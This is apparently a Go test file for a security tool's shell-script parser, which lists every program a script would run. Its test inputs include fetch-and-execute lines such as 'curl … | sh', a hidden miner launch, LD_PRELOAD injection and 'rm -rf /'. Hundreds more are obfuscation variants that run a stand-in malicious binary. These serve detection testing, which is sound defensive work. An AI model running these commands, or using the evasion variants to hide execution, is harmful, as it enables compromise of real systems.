// SPDX-License-Identifier: Apache-2.0

package shellscript

import (
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"sentinel/internal/testenv"
)

// programs are those of a script that is a file of its own.
func programs(script string) []string { return NewReader(len(script)).Programs(script) }

func TestProgramsOfScriptsWithoutTheirArguments(t *testing.T) {
	for text, want := range map[string][]string{
		"/usr/bin/x --password=secret &":                       {"/usr/bin/x"},
		"cd / && run-parts --report /etc/cron.hourly":          {"run-parts"},
		"test -x /usr/sbin/anacron || ( cd / && run-parts x )": {"run-parts"},
		"[ -x /a ] && /a; b|c":                                 {"/a", "b", "c"},
		"if [ -f /etc/x ]; then\n\t. /etc/x\nfi":               {"/etc/x"},
		"source ~/.aliases; eval \"$(dircolors -b)\"":          {"~/.aliases", "dircolors"},
		"export PATH=$HOME/bin:$PATH TOKEN=abc":                nil,
		"export LD_PRELOAD=/tmp/x.so":                          {"/tmp/x.so"},
		"PROMPT_COMMAND='/tmp/p'":                              {"/tmp/p"},
		"A=1 B='2 3' prog":                                     {"prog"},
		"x=$(curl -s http://h/a | sh)":                         {"curl", "sh"},
		"echo `id`":                                            {"id"},
		"bash -c 'curl http://h|/tmp/z'":                       {"bash", "curl", "/tmp/z"},
		"/bin/sh /opt/job.sh >/dev/null 2>&1":                  {"/bin/sh", "/opt/job.sh"},
		"nohup /tmp/.x/miner -o pool &":                        {"/tmp/.x/miner"},
		"/usr/bin/env python3 /opt/a.py":                       {"/usr/bin/env", "python3", "/opt/a.py"},
		"timeout 30s nice -n 19 /opt/b":                        {"/opt/b"},
		"sudo -n /opt/c":                                       {"/opt/c"},
		"exec /sbin/init":                                      {"/sbin/init"},
		"cat <<EOF\nrm -rf /\nEOF\nls":                         {"cat", "ls"},
		"f() { inner; }\nf":                                    {"inner", "f"},
		"case $x in\n a|b) one ;;\n *) two ;;\nesac":           {"one", "two"},
		"# comment ; rm\nreal # rm":                            {"real"},
		"a \\\n  b\nc":                                         {"a", "c"},
		"2>/dev/null prog < in":                                {"prog"},
		"while read l; do work; done < /etc/list":              {"work"},
		"$cmd x; \"$X\"; 123; ''":                              nil,
		"if shopt -q login_shell; then fortune; fi":            {"fortune"},
		"perl -e 'system(1)'":                                  {"perl"},
		strings.Repeat("sh -c 'x' ", 3):                        {"sh", "x"},
	} {
		if diff := cmp.Diff(want, programs(text)); diff != "" {
			t.Errorf("%q: %s", text, diff)
		}
	}
}

// Each of these runs /tmp/.x/evil, and arguments called "secret" are shown of none.
func TestAProgramIsNamedHoweverAShellIsToldToRunIt(t *testing.T) {
	const evil = "/tmp/.x/evil"
	for _, text := range []string{
		// expansions
		"EVIL secret; x=$((1+1))", "EVIL $((2)) secret", "EVIL $(( (1 + 2) * 3 ))", "((x = 1)); EVIL", "for ((i=0; i<3; i++)); do EVIL secret; done", "x=$((1 << 2))\nEVIL", "((EVIL secret))",
		"x=$((1 + $(EVIL)))", "$((EVIL); true)", "x=$((EVIL secret) )", "x=`EVIL secret`", "x=\"`EVIL secret`\"", "x=\"$(true \"$(EVIL secret)\")\"", "true `true \\`EVIL\\``",
		"x=${y%)}; EVIL", "x=${y:-$(EVIL)}; true", "x=${y%\"}\"}; EVIL", "x=\"${y:-it's}\"; EVIL 'secret }'", "EVIL ${x#(} secret", "true ${x; EVIL", "true $(date) secret; EVIL", "true @(a|secret); EVIL",
		// quotes
		"/tmp/.x/\"evil\" secret", "/tmp/.x/e\\vil", "$'/tmp/\\x2ex/\\145vil' secret", "$\"/tmp/.x/evil\"", "/tmp/.x/ev\\\nil", "\"/tmp/.x/e\\\nvil\"",
		// redirections
		">/dev/null EVIL secret", ">\"/tmp/a b\" EVIL", "true 2>'a;b'; EVIL", "{fd}>x EVIL", "2>&1 EVIL", "EVIL <(true secret) secret", "true > >(EVIL secret)", "true &>/dev/null; EVIL",
		"sh <<X\nEVIL secret\nX", "sudo -u bob sh -s secret <<-'X Y'\n\tEVIL secret\n\tX Y\ntrue", "true <<X | bash 2>/dev/null\nEVIL\nX", "sh <<< 'EVIL secret'", "true <<X\n$(EVIL)\nX", "true <<\"A B\"\nsecret\nA B\nEVIL",
		"sh < EVIL", "<EVIL sh -s secret", "cat EVIL | sudo sh >&2", "cat < EVIL | sh", "cd /tmp; bash <.x/evil", "echo 'EVIL secret' | sh", "printf '%s\\n' 'EVIL secret' |\n sudo bash", "printf 'EVIL secret\\n' | tee x |& sh",
		// structure
		"if EVIL; then :; fi", "if(EVIL)then true; fi", "while ! EVIL; do :; done", "until EVIL; do :; done", "for x do EVIL; done", "f() { EVIL; }", "function f { EVIL; }", "function f() {\nEVIL\n}",
		"true && EVIL", "false || EVIL", "true & EVIL", "true |& EVIL", "{ EVIL; }", "(EVIL secret)", "A=1 B='2 3' EVIL", "A=(secret x) EVIL", "A+=(\n'secret'\n)\nEVIL", "coproc EVIL", "coproc C { EVIL; }",
		"case $x in\na|b) EVIL;;\nesac", "case $x in (secret) EVIL ;; esac", "x=$(case $y in secret) EVIL;; esac)", "case x in a) case y in secret) :; esac;; secret) EVIL; esac; true", "case x in a) ;; esac; EVIL", "x=$(case y in a) b;; esac); EVIL", "x=$(case y in a) b;; esac) EVIL", "case x in\na) ;;\nesac\nEVIL", "case x in a) ;; esac | EVIL",
		"if { :; } then EVIL secret; fi", "if case x in x) ;; esac then EVIL; fi", "if if :; then :; fi then EVIL; fi", "if [[ secret ]] then EVIL; fi", "while { :; } do EVIL; break; done", "until ! { :; } >/dev/null do EVIL; done",
		"if for x in y; do :; done then EVIL; fi", "if :; then { :; } else EVIL; fi", "if ! [[ secret && x ]] then EVIL; fi",
		// where blanks may be left out, and what looks like arithmetic
		"for((i=0;i<1;i++))do EVIL secret;done", "time(EVIL secret)", "coproc(EVIL secret)", "if :;then time(EVIL secret);fi", "while((1))do if(EVIL)then :;fi;break;done", "case x in(x) EVIL;;esac", "select x in secret;do if(EVIL)then :;fi;done",
		"((cd /tmp/.x;./evil))", "((sh EVIL))", "((A=secret EVIL))", "(((1|'EVIL' )))", "(({((x))} #'\nwhile p&do EVIL ;done));\"'(''))\"", "((EVIL))", "x=$((1+')'));EVIL",
		// what "${…}" holds, and where it ends
		"for x in \"${x:-\"a\\\"}\"}\" b; do EVIL; done", "x=\"${x:-\"${x:-\"}\"}\"}\";EVIL secret '\"'", "x=\"${x#'}'}\";EVIL", "x=\"${x:+'}\"; EVIL \"'\"", "x=${x:-$(case a in a) EVIL;; esac; # }\n)}", "x=${x:-$'\\'}'}; EVIL",
		"x=\"${x:-$(true '\"' \\\"; EVIL)}\"", "x=${x/$(EVIL)/y}", "cat <<E\n${x:-'}\nE\nEVIL", "x=\"${x[1]#'}\"'}\"; EVIL", "x=${x:-${y:-$(EVIL)}}",
		// where a here-document, a comment and a line begin and end
		"cat <<$'E'\n'secret\nE\nEVIL", "cat <<$'\\x45'\n'secret\nE\nEVIL", "cat <<$\"E\"\n'secret\nE\nEVIL", "cat <<$'E'\n'\n$E\nEVIL\nE\n", "cat <<E$'F'\n'\nEF\nEVIL",
		"cat <<E\na\\\nE\n'\nE\nEVIL", "cat <<E\n\\\nE\nEVIL", "cat <<EF\nE\\\nF\nEVIL", "cat <<E\na\\\\\nE\nEVIL", "cat <<'E'\na\\\nE\nEVIL",
		"a[1<<E]=2\nEVIL\nE]=2", "a[1 << E ]=2\nEVIL\nE", "declare -a a[1<<E]=2\nEVIL\nE]=2", ": $[1<<E]\nEVIL\nE]", "x=$[1+$(EVIL)]", "a[$(EVIL)]=1", ":\r#;EVIL", "cat <<$(:) >/dev/null\nx\n$(:)\nEVIL", "cat <<E\\ F\nsecret\nE F\nEVIL",
		"cat <<\"A\"'B'\nsecret\nAB\nEVIL", "cat <<E;EVIL\nsecret\nE", "cat <<E\r\nsecret\r\nE\r\nEVIL\r\n", "cat <<${x}\nsecret\n${x}\nEVIL", "cat <<E\nEVIL",
		// builtins
		". EVIL secret", "source EVIL", "eval \"EVIL secret\"", "eval EVIL secret", "exec -a secret EVIL", "exec -cla secret EVIL", "command -p EVIL", "trap 'EVIL secret' EXIT", "trap -- EVIL 0 1", "alias l=ls ls='EVIL secret; ls'",
		"PROMPT_COMMAND='EVIL secret'", "PROMPT_COMMAND+=(EVIL)", "PS1='\\u$(EVIL secret)\\$ '", "declare -x LD_PRELOAD=EVIL", "complete -C 'EVIL secret' ls", "hash -p EVIL ls", "enable -f EVIL secret",
		// programs that run others
		"env -u secret -S EVIL", "env -S 'A=1 EVIL secret' secret", "env -i A=b EVIL", "env --unset=secret -- EVIL", "sudo -u bob EVIL", "sudo -nu bob -g secret -- EVIL", "doas -u bob EVIL", "nice -n 5 EVIL", "nice -5 EVIL", "ionice -c 2 -n7 EVIL",
		"nohup EVIL", "setsid -f EVIL", "timeout -k 5 -s KILL 1m EVIL", "stdbuf -o L EVIL", "chroot --userspec secret / EVIL", "runuser -u bob -- EVIL", "runuser -u bob EVIL", "runuser bob -c 'EVIL secret'", "su -c 'EVIL secret' bob", "su - bob -c EVIL",
		"su -s EVIL secret", "flock -n /run/secret EVIL", "flock -w 5 9 EVIL", "flock /run/secret -c 'EVIL secret'", "taskset -c 0-3 EVIL", "chrt -f 10 EVIL", "unshare -Urm EVIL", "nsenter -t 1 -m EVIL", "nsenter -t 1 -m/proc/1/ns/mnt EVIL",
		"systemd-run -p User=secret --unit secret EVIL", "strace -f -o secret EVIL", "/usr/bin/time -f secret EVIL", "time -p EVIL", "time ! EVIL", "screen -dmS secret EVIL", "busybox sh -c EVIL", "watch -n 5 'EVIL secret'", "sleep 5m && EVIL",
		"true | xargs -I{} EVIL secret", "true | xargs -0 -n 1 EVIL", "find / -name secret -exec EVIL {} \\;", "find . -ok sh -c 'EVIL secret' \\; -execdir EVIL +", "start-stop-daemon -S -p /run/secret -b -x EVIL -- secret",
		"prlimit --nofile=10 -o secret EVIL secret", "sg secret 'EVIL secret'", "sg secret -c 'EVIL secret'", "parallel -j 2 EVIL secret", "chpst -u secret -e /secret EVIL", "bwrap --ro-bind / / --setenv A secret --chdir / -- EVIL secret", "firejail --name=secret EVIL", "proot -b /secret -w /tmp/.x ./evil",
		"tmux new-session -d -s secret EVIL", "tmux -L secret new -d 'EVIL secret'", "dtach -n /secret -E EVIL secret", "abduco -n secret EVIL secret", "cpulimit -l 10 EVIL secret", "faketime '2008-12-24' EVIL secret", "setarch x86_64 -R EVIL secret", "choom -n 500 -- EVIL secret", "runcon -t secret EVIL", "runcon secret EVIL secret",
		"aa-exec -p secret EVIL", "cgexec -g cpu:secret EVIL", "uclampset -m 1 EVIL", "softlimit -m 100 EVIL secret", "setlock -n /secret EVIL", "tini -e 143 -- EVIL", "dumb-init -r 15:secret EVIL", "xvfb-run -a -s secret EVIL", "ssh-agent -t secret EVIL", "proxychains4 -f /secret EVIL", "caffeinate -t 10 EVIL", "sandbox-exec -n secret EVIL",
		"/lib64/ld-linux-x86-64.so.2 --library-path /secret EVIL", "script -qc 'EVIL secret' /dev/null", "at -f EVIL now", "echo 'EVIL secret' | at now",
		// interpreters
		"perl -I /usr/lib EVIL secret", "perl -w -I/usr/lib EVIL", "/usr/bin/python3.11 -u -W secret EVIL", "ruby -r json -I /usr/lib EVIL", "node -r EVIL secret", "node --require=EVIL", "php -d a=secret -f EVIL secret", "lua5.4 -l secret EVIL",
		"sh +x EVIL", "bash -o pipefail EVIL", "bash --rcfile EVIL", "sh -ec 'EVIL secret'", "sh -ce 'EVIL secret' secret", "bash -c -l 'EVIL secret'", "bash -euo pipefail -c EVIL", "java -Xmx1g -cp secret -jar EVIL secret", "awk -F : -f EVIL secret",
		// directories
		"cd /tmp/.x && ./evil secret", "cd -P -- /tmp/.x; ./evil", "cd /tmp; cd .x; ./evil", "cd /tmp/.x || exit; sh evil secret", "cd /; (cd /tmp; true); cd tmp; .x/evil", "pushd /tmp/.x; ./evil", "cd /tmp/.x; x=$(./evil)", "env -C /tmp/.x ./evil",
		"if cd /tmp/.x; then ./evil; fi", "sudo -D /tmp sh .x/evil", "cd /tmp/.x; find . -exec ./evil \\;",
	} {
		list := programs(strings.ReplaceAll(text, "EVIL", evil))
		if !slices.Contains(list, evil) || strings.Contains(strings.Join(list, "|"), "secret") {
			t.Errorf("%q: %q", text, list)
		}
	}
}

// No argument is taken for a program.
func TestArgumentsAreNotNamed(t *testing.T) {
	for text, want := range map[string][]string{
		"prog $(date) secret `id` b": {"prog", "date", "id"}, "x=(secret b)": nil, "export NAME": nil, "trap - EXIT": nil, "trap '' INT": nil, "cat <<E\n\tE\nsecret\nE\nls": {"cat", "ls"},
		"perl -lane 'print if /x/' /secret": {"perl"}, "perl -pi -e 's/a/b/' /secret": {"perl"}, "perl -ne '/secret/ && print'": {"perl"}, "python3 -c 'x' /secret": {"python3"}, "python -m http.server /secret": {"python"}, "node -e 'x' /secret": {"node"},
		"sudo -u bob": nil, "flock -n 9 || exit 1": nil, "runuser -u bob -- a secret": {"a"}, "find / -name x -print": {"find"}, "sh -c 'a' /secret": {"sh", "a"}, "su - bob": nil, "cd /tmp; sh -s secret <&3": {"sh"}, "prog </secret": {"prog"}, "cat /secret | prog": {"cat", "prog"}, "sh -c 'a' </secret": {"sh", "a"},
		"(cd /tmp/.x; true); ./evil": {"./evil"}, "cd $X; ./evil": {"./evil"}, "cd /tmp; cd \"$(x)\"; ./evil": {"x", "./evil"}, "cd; ./evil": {"./evil"}, "cd ~/.x; ./evil": {"~/.x/evil"}, "cd /x; evil": {"evil"}, "cd /x; $HOME/evil": {"$HOME/evil"},
		"\"/tmp/.x/evil with space\" secret": {"/tmp/.x/evil with space"}, "./a\\ b": {"./a b"}, "'/tmp/a=b&(c)é'": {"/tmp/a=b&(c)é"}, "\"a b\"": nil, "/tmp/$USER/evil": {"/tmp/$USER/evil"}, "'/tmp/a\nb'": nil, "/": nil, "cd /tmp; ./1": {"/tmp/1"}, "$'/tmp/\\x01\\xff'": {"/tmp/\x01\xff"}, "'' /secret": nil,
		"/tmp/" + strings.Repeat("a", 255): {"/tmp/" + strings.Repeat("a", 255)}, "env " + strings.Repeat("A=1 ", 100) + "prog": {"prog"},
	} {
		if diff := cmp.Diff(want, programs(text)); diff != "" {
			t.Errorf("%q: %s", text, diff)
		}
	}
}

// What a variable makes a program load or run is named as what is run, and no value of another kind is.
func TestVariablesNameWhatTheyMakeRun(t *testing.T) {
	for text, want := range map[string][]string{
		"LD_LIBRARY_PATH=/opt/a:$LD_LIBRARY_PATH": {"/opt/a/"}, "export LD_LIBRARY_PATH=/opt/a${LD_LIBRARY_PATH:+:${LD_LIBRARY_PATH}}": {"/opt/a/"}, "PYTHONPATH=/opt/a:/opt/b": {"/opt/a/", "/opt/b/"}, "PERL5LIB=/opt/a": {"/opt/a/"},
		"PERL5OPT='-Msecret -I/opt/a'": nil, "RUBYOPT=-r/opt/a.rb": {"/opt/a.rb"}, "export NODE_OPTIONS='--require /opt/a.js --max-old-space-size=1'": {"/opt/a.js"}, "PYTHONSTARTUP=/opt/a.py python3": {"/opt/a.py", "python3"},
		"env 'BASH_FUNC_ls%%=() { /opt/a secret; }' bash": {"/opt/a", "bash"}, "EDITOR=/opt/a": nil, "PERL5DB=secret": nil, "path=/opt/a": nil,
		"export PATH=$HOME/bin:~/.local/bin:$PATH TOKEN=abc": nil, "PATH=/opt/a:$PATH": {"/opt/a/"}, "PATH=$HOME/.x:/usr/bin": {"$HOME/.x/"},
	} {
		if diff := cmp.Diff(want, programs(text)); diff != "" {
			t.Errorf("%q: %s", text, diff)
		}
	}
}

// A program is not one of the system where it is looked for elsewhere first.
func TestProgramsAreLookedForInThePathThatIsSet(t *testing.T) {
	for text, want := range map[string][]string{
		"ls; PATH=/mnt/.x:/usr/bin; ls; /bin/ls": {"ls", "/mnt/.x/", "$PATH/ls", "/bin/ls"}, "PATH=/usr/sbin:/usr/bin:/sbin:/bin:$PATH; ls": {"ls"}, "export PATH=\"${PATH}:/usr/games/\"; ls": {"ls"},
		"PATH=$PATH:; ls": {"$PATH/ls"}, "PATH=:/bin; ls": {"$PATH/ls"}, "PATH=/bin::/usr/bin; ls": {"$PATH/ls"}, "PATH=$X:/bin; ls": {"$PATH/ls"}, "PATH=bin ls": {"$PATH/ls"}, "PATH=$PATH:/opt/a; ls": {"/opt/a/", "ls"}, "PATH=$PATH:/opt/a::; ls": {"/opt/a/", "$PATH/ls"}, "PATH=${PATH:+$PATH:}/opt/a sh -c ls": {"/opt/a/", "$PATH/sh", "$PATH/ls"},
		"PATH=~/bin:$PATH; alias l=ls x=/opt/x": {"/opt/x"}, "env PATH=/opt/a ls": {"/opt/a/", "$PATH/ls"}, "PATH=/opt/a; LD_PRELOAD=a.so ls": {"/opt/a/", "a.so", "$PATH/ls"},
	} {
		if diff := cmp.Diff(want, programs(text)); diff != "" {
			t.Errorf("%q: %s", text, diff)
		}
	}
	r := NewReader(100)
	r.Programs("PATH=/opt/a")
	if got := r.Programs("ls"); !slices.Equal(got, []string{"ls"}) || r.HasCustomPath() {
		t.Errorf("%q of another script", got)
	}
	if got := r.Environment([]string{"no", "PATH=/opt/a"}); !slices.Equal(got, []string{"/opt/a/"}) || !r.HasCustomPath() {
		t.Errorf("%q", got)
	}
	if got := slices.Concat(r.Programs("ls"), r.Command([]string{"nice", "ls"})); !slices.Equal(got, []string{"$PATH/ls", "$PATH/ls"}) {
		t.Errorf("%q in the environment", got)
	}
}

func TestVariablesThatStartSomething(t *testing.T) {
	for name, values := range map[string]map[string]bool{
		"PATH":            {"": false, "/usr/bin:/bin": false, "/usr/bin:/opt/a": true, "/usr/bin:": true, "$PATH": false, "~/bin": true},
		"LD_LIBRARY_PATH": {"": false, "/usr/lib": true}, "BASH_FUNC_ls%%": {"() { x; }": true}, "NODE_OPTIONS": {"-x": true}, "MAILTO": {"root": false}, "BASH_FUNC": {"x": false},
	} {
		for value, want := range values {
			if Starts(name, value) != want {
				t.Errorf("%s=%q", name, value)
			}
		}
	}
}

// The first that reads takes the input of the whole, however deep it stands.
func TestInputIsReadByTheFirstThatReadsIt(t *testing.T) {
	for _, c := range []struct {
		script, input string
		want          []string
	}{
		{"/bin/sh", "/tmp/.evil --beacon\n", []string{"/bin/sh", "/tmp/.evil"}}, {"cat | sh -s secret", "/tmp/a", []string{"cat", "sh", "/tmp/a"}}, {"true; sh -c 'exec sudo bash'", "/tmp/a", []string{"sh", "bash", "/tmp/a"}},
		{"mail -s x root", "/tmp/a", []string{"mail"}}, {"sh -c ls", "/tmp/a", []string{"sh", "ls"}}, {"echo /opt/b | sh; sh", "/tmp/a", []string{"sh", "/opt/b", "/tmp/a"}}, {"sh; sh", "/tmp/a", []string{"sh", "/tmp/a"}},
		{"sh -c sh <<E\n/opt/c\nE", "/tmp/a", []string{"sh", "/opt/c"}}, {"x=$(sh)", "/tmp/a", []string{"sh", "/tmp/a"}}, {"at now", "/tmp/a", []string{"at", "/tmp/a"}}, {"", "/tmp/a", nil},
	} {
		if diff := cmp.Diff(c.want, NewReader(100).Fed(c.script, c.input)); diff != "" {
			t.Errorf("%q: %s", c.script, diff)
		}
	}
}

func TestCommandsThatRunOthers(t *testing.T) {
	if diff := cmp.Diff([]string{"/bin/bash", "/opt/x.sh"}, NewReader(0).Command([]string{"/bin/bash", "-e", "/opt/x.sh", "/other"})); diff != "" {
		t.Error(diff)
	}
	if got := NewReader(0).Command(nil); got != nil {
		t.Errorf("%v", got)
	}
}

// What is of interest is shown or said to be left out, and what is usual is neither.
func TestProgramsThatHaveNoPlaceAreSaid(t *testing.T) {
	var b strings.Builder
	for i := range maxPrograms {
		fmt.Fprintf(&b, "/opt/tool%d\n", i)
	}
	for more, want := range map[string]error{"": nil, "/usr/bin/true": nil, "/tmp/.x/evil": ErrCut} {
		r := NewReader(b.Len())
		if got := r.Programs(b.String() + more); len(got) != maxPrograms || !errors.Is(r.Err(), want) {
			t.Errorf("%q: %d programs, %v", more, len(got), r.Err())
		}
	}
}

func TestScriptsOfAnySizeAreBounded(t *testing.T) {
	var b strings.Builder
	for i := range 1000 {
		b.WriteString("p" + strings.Repeat("x", i) + "\n")
	}
	if got := programs(b.String()); len(got) != maxPrograms {
		t.Errorf("%d programs", len(got))
	}
	b.WriteString("/usr/bin/last; /tmp/.x/evil")
	if got := programs(b.String()); len(got) != maxPrograms || got[maxPrograms-1] != "/tmp/.x/evil" || got[0] != "p" {
		t.Errorf("%q", got)
	}
}

// What users write costs no more than its length, whatever it repeats.
func TestScriptsOfUsersTakeTheTimeOfTheirLength(t *testing.T) {
	testenv.HangGuard(t)
	const size = 1 << 20
	repeated := func(text string) string { return strings.Repeat(text, size/len(text)) }
	for name, script := range map[string]string{
		"arithmetic that is never closed": repeated("$(('((' ))\n"), "patterns": "x" + repeated("(a)"), "options": "sudo -" + repeated("x"),
		"elements of a long name": repeated("A") + "=(" + repeated("a "), "assignments": repeated("a=("),
		"parameters": repeated("${a"), "parentheses": repeated("(("), "backquotes": repeated("`a"), "documents": repeated("<<E "), "documents of each line": repeated("a <<E\nb\n"), "indices": repeated("a["), "old arithmetic": repeated("$[ "), "ends": repeated("} then "), "redirections": repeated("1>"),
		"quotes": repeated("\"$("), "commands within commands": "a " + repeated("$(b) "), "cases": repeated("case in in "), "eval": repeated("eval "),
		"directories": "cd /x\n" + repeated("cd a\n"), "directories there and back": "cd /" + strings.Repeat("x", 4000) + "\n" + repeated("cd a\ncd ..\n"),
	} {
		length, directories, last := 0, 0, ""
		for _, c := range NewReader(len(script)).commands(script, "/") {
			for _, word := range c.words {
				length += len(word)
			}
			if c.dir != last {
				directories, last = directories+len(c.dir), c.dir
			}
		}
		if got := programs(script); len(got) > maxPrograms || length > 2*len(script) || directories > levels*len(script)+spare {
			t.Errorf("%s: %d programs in words of %d bytes, directories of %d", name, len(got), length, directories)
		}
	}
}

// Texts that are scripts more than once at each level would take twice the time for each.
func TestCommandsWithinCommandsAreBounded(t *testing.T) {
	testenv.HangGuard(t)
	documents, defaults := "", "/opt/deep"
	for i := range 40 {
		documents += fmt.Sprintf("sh <<E%d\n$(", i)
		defaults = `eval "${x-$(` + defaults + `)}"`
	}
	for name, script := range map[string]string{"documents": documents, "defaults": defaults, "depth": strings.Repeat("eval ", maxDepth+1) + "/opt/deep"} {
		r := NewReader(len(script))
		if got := r.Programs("/opt/first; " + script + "\n/opt/last"); !errors.Is(r.Err(), ErrCut) || got[0] != "/opt/first" || slices.Contains(got, "/opt/deep") {
			t.Errorf("%s: %q, %v", name, got, r.Err())
		}
	}
}

// What is never closed is not looked for without an end, at any level.
func TestWhatIsNeverClosedIsPaidFor(t *testing.T) {
	for name, text := range map[string]string{"parameters": "${", "arithmetic": "$((", "patterns": "x(x"} {
		r := NewReader(1 << 16)
		if r.Programs(strings.Repeat(text, 1<<16/len(text))); r.left != 0 || !errors.Is(r.Err(), ErrCut) {
			t.Errorf("%s: %d bytes left, %v", name, r.left, r.Err())
		}
	}
}

// Nothing is left out of what people write, and what stands in no other command is never.
func TestOrdinaryScriptsAreReadWhole(t *testing.T) {
	r := NewReader(30_000)
	if got := r.Programs(strings.Repeat("cd /opt/some/tool && ./run\n", 1000)); r.Err() != nil || !slices.Equal(got, []string{"/opt/some/tool/run"}) {
		t.Errorf("%q, %v", got, r.Err())
	}
	script := strings.Repeat(`x="${a:-$(sh -c 'sh -c "/opt/a ${b%/*} $((1+2))"')}"; eval "$(/opt/b)"`+"\nsudo sh <<E\n  sh -c '/opt/c $(/opt/d)'\nE\n", 1000)
	r = NewReader(len(script))
	if got := r.Programs(script); r.Err() != nil || !slices.Contains(got, "/opt/d") {
		t.Errorf("%q, %v", got, r.Err())
	}
	r = &Reader{}
	if diff := cmp.Diff([]string{"/opt/a", "sh"}, r.Programs("/opt/a; sh -c /opt/b")); diff != "" || !errors.Is(r.Err(), ErrCut) {
		t.Errorf("%v: %s", r.Err(), diff)
	}
}

// Whatever a script holds, no argument and nothing that could be one is shown.
func FuzzPrograms(f *testing.F) {
	f.Add("a=$(b \"`c`\") <<X\ny\nX\nd 2>&1 | e; f() { g; }")
	f.Add("a $((1+(2))) ${b%)} <<< \"c\" @(d) $'\\x2f' {e}>f; case g in (h) i;; esac; x=(j); cd /k && ./l | sh\nfind . -exec m \\;")
	f.Add("a <<\"")
	f.Add("sh -c 'sh -c \"sh -c x\"' '\"\\\n((")
	f.Fuzz(func(t *testing.T, text string) {
		list := programs(text)
		if len(list) > maxPrograms {
			t.Errorf("%d programs", len(list))
		}
		for _, name := range list {
			if !isName(name) || strings.ContainsAny(name, "\n\x00") || !strings.ContainsAny(name[:1], "/~$.") && strings.ContainsAny(name, " \"'=;|&") {
				t.Errorf("%q", name)
			}
		}
	})
}

func TestOnceKeepsTheFirst(t *testing.T) {
	if diff := cmp.Diff([]string{"/b", "/a"}, Once([]string{"/b", "/a", "/b"})); diff != "" {
		t.Error(diff)
	}
}
